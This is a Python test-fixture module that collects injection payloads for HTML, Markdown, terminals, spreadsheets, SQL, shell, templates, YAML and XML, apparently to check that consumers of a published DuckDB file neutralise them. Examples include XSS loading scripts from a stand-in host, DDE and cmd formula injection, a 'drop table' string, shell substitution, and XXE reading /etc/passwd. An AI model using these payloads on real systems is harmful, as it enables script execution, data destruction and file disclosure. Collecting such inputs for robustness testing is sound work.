"""Texts that attack a reader: a browser, a spreadsheet, a terminal, a shell, a template or a parser.

Each contains the word evil, so that tests find it in an output; `other` stands for the address of a foreign server.
"""

import duckdb

OTHER = "http://127.0.0.1:9"
"""The address of a foreign server, unless a test listens itself."""

HTML = {
    "script": "<script>document.title='evil'</script>",
    "script from elsewhere": "<script src={other}/evil.js></script>",
    "end of a script": "</script><script>alert('evil')</script>",
    "end of a style": "</style><img src={other}/evil onerror=alert(1)>",
    "end of a title": "</title></textarea><svg onload=alert('evil')>",
    "end of a comment": "--><img src={other}/evil><!--",
    "end of CDATA": "]]><img src={other}/evil>",
    "picture": "<img src={other}/evil>",
    "picture that fails": "<img src=x onerror=\"alert('evil')\">",
    "picture unfinished": "<img src={other}/evil onerror=alert(1) ",
    "drawing": "<svg/onload=alert('evil')>",
    "drawing with a link": "<svg><a xlink:href='javascript:alert(1)'><text y=9>evil</text></a></svg>",
    "foreign object": "<svg><foreignObject><iframe src={other}/evil></iframe></foreignObject></svg>",
    "frame": "<iframe src={other}/evil></iframe>",
    "frame of its own": "<iframe srcdoc='<script>alert(\"evil\")</script>'></iframe>",
    "object": "<object data={other}/evil></object><embed src={other}/evil>",
    "style": "<style>@import '{other}/evil';</style>",
    "style sheet": "<link rel=stylesheet href={other}/evil>",
    "base": "<base href={other}/evil/>",
    "refresh": "<meta http-equiv=refresh content='0;url={other}/evil'>",
    "form": "<form action={other}/evil><input autofocus onfocus=alert(1)></form>",
    "details": "<details open ontoggle=alert('evil')>x</details>",
    "video": "<video src={other}/evil onerror=alert(1)></video>",
    "noscript": '<noscript><p title="</noscript><img src={other}/evil>">',
    "attribute": '" onmouseover="alert(\'evil\')" x="',
    "attribute in single quotes": "' onmouseover='alert(\"evil\")' x='",
    "entities": "&lt;img src={other}/evil&gt; &#60;script&#62; &amp;",
    "a link of a script": "javascript:alert('evil')",
    "a link of a script with a tab": "java\tscript:alert('evil')",
    "a page as a link": "data:text/html,<script>alert('evil')</script>",
    "no scheme": "//127.0.0.1:9/evil",
}

MARKDOWN = {
    "picture in Markdown": "![evil]({other}/evil)",
    "picture by reference": "![evil][r]\n\n[r]: {other}/evil",
    "link": "[to the filing]({other}/evil)",
    "link by reference": "[to the filing][evil]\n\n[evil]: {other}/evil",
    "link to a script": "[evil](javascript:alert(1))",
    "link with a title": '[a]({other}/evil "evil")',
    "autolink": "<{other}/evil>",
    "bare address": "{other}/evil",
    "end of a link": "x]({other}/evil) [y",
    "table": "evil | b | c\n--- | --- | ---\n![]({other}/evil) | 2 | 3",
    "code fence": "```\nevil\n```\n![]({other}/evil)",
    "code": "`evil` ``![]({other}/evil)``",
    "heading": "# evil\n\n- list\n\n> quote",
    "escaped": "\\![evil]({other}/evil)",
    "footnote": "evil[^1]\n\n[^1]: ![]({other}/evil)",
    "formula of LaTeX": "$\\href{javascript:alert(1)}{evil}$",
}

TERMINAL = {
    "markup of rich": "[red]evil[/red] [link={other}/evil]x[/link]",
    "unfinished markup of rich": "[/evil] [bold",
    "colours": "\x1b[45mevil\x1b[0m",
    "a cleared screen": "\x1b[2J\x1b[Hevil",
    "title of the window": "\x1b]0;evil\x07",
    "link of a terminal": "\x1b]8;;{other}/evil\x1b\\evil\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07evil",
    "device control": "\x1bPevil\x1b\\\x1b_evil\x1b\\",
    "one-byte controls": "\x9b45mevil\x9d0;evil\x9c",
    "overwritten": "harmless\r\x08\x08evil",
    "bell and delete": "\x07\x7fevil\x0b\x0c",
    "end of the text": "evil\x00evil",
    "bidi override": "\u202eevil\u202c \u2066evil\u2069",
    "zero width": "ev\u200bil\u200d\ufeff evil",
    "tags": "evil\U000e0041\U000e0042",
    "separators": "evil\u2028evil\u2029evil\x85evil",
    "look-alikes": "\u0435vil evil",
    "many marks": "evil" + "\u0301" * 200,
}

SPREADSHEET = {
    "formula": '=1+1&"evil"',
    "call": "=cmd|' /C calc'!A0 evil",
    "address in a formula": '=HYPERLINK("{other}/evil","evil")',
    "service in a formula": '=WEBSERVICE("{other}/evil")',
    "plus": "+1+cmd|' /C calc'!A0 evil",
    "minus": "-1+cmd|' /C calc'!A0 evil",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0 evil",
    "tab": "\t=1+1 evil",
    "return": "\r=1+1 evil",
    "new line": "\n=1+1 evil",
    "blank": "  =1+1 evil",
    "full-width": "\uff1d1+1 evil",
    "other full-width": "\uff0b1 \uff0d1 \uff20evil",
    "quote and formula": '",=1+1,"evil',
    "end of a line": "evil\r\n=1+1,=2+2",
    "another separator": 'evil;=1+1;"=2+2"',
    "exchange of data": 'DDE("cmd";"/C calc";"evil")',
}

MACHINE = {
    "SQL": "evil'; drop table facts.deals; --",
    "more SQL": "evil\" or 1=1 union select * from read_text('/etc/passwd') --",
    "shell": "$(touch evil) `touch evil` ; touch evil | touch evil && touch evil",
    "variables": "${HOME} $PATH %PATH% ~evil !evil",
    "template": "{{7*7}} {% evil %} {# evil #}",
    "another template": "${7*7} #{7*7} <%= evil %>",
    "format": "%s %n %x %(evil)s {0} {evil!r}",
    "JSON": 'evil", "is_passed": true, "x": "\\u0000',
    "YAML": "evil: &a [*a, !!python/object/apply:os.system ['evil']]\n---\n",
    "XML": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;evil</x>",
    "path": "../../../../etc/evil\\..\\evil",
    "escapes": "evil\\n\\t\\x1b[2J\\u202e\\",
    "escape of a workbook": "_x001B_evil_x0000_",
    "quotes": "evil\"\"''``\u201c\u201d\u00ab\u00bb",
    "very long": "evil " * 4000,
    "long word": "evil" * 2000,
    "many lines": "evil\n" * 300,
}

KINDS = HTML | MARKDOWN | TERMINAL | SPREADSHEET | MACHINE


def texts(other=OTHER):
    """Every text by its name."""
    return {name: text.replace("{other}", other) for name, text in KINDS.items()}


FREE = (
    "code_version", "deal", "deal_description", "definition", "description", "entity", "explanation", "grain",
    "hazards", "meaning", "name", "note", "other_condition", "payee", "payer", "publisher", "reason", "rule", "site",
    "source", "source_file", "source_title", "source_url", "statement", "table_summary", "title", "url",
)  # fmt: skip
"""Columns of a published file that may hold any text, without making rows unfindable."""


def poison(published, found, shift):
    """Write the texts into every such column of a published file: another one in each row, beginning at `shift`."""
    with duckdb.connect(str(published)) as connection:
        columns = connection.execute(
            "select schema_name, table_name, column_name from duckdb_columns() "
            "where not internal and data_type = 'VARCHAR' and column_name in (select unnest(?))",
            [list(FREE)],
        ).fetchall()
        for schema, table, column in columns:
            connection.execute(
                f'update "{schema}"."{table}" set "{column}" = list_extract(?, 1 + (rowid + ?) % len(?))',
                [found, shift, found],
            )
    return columns
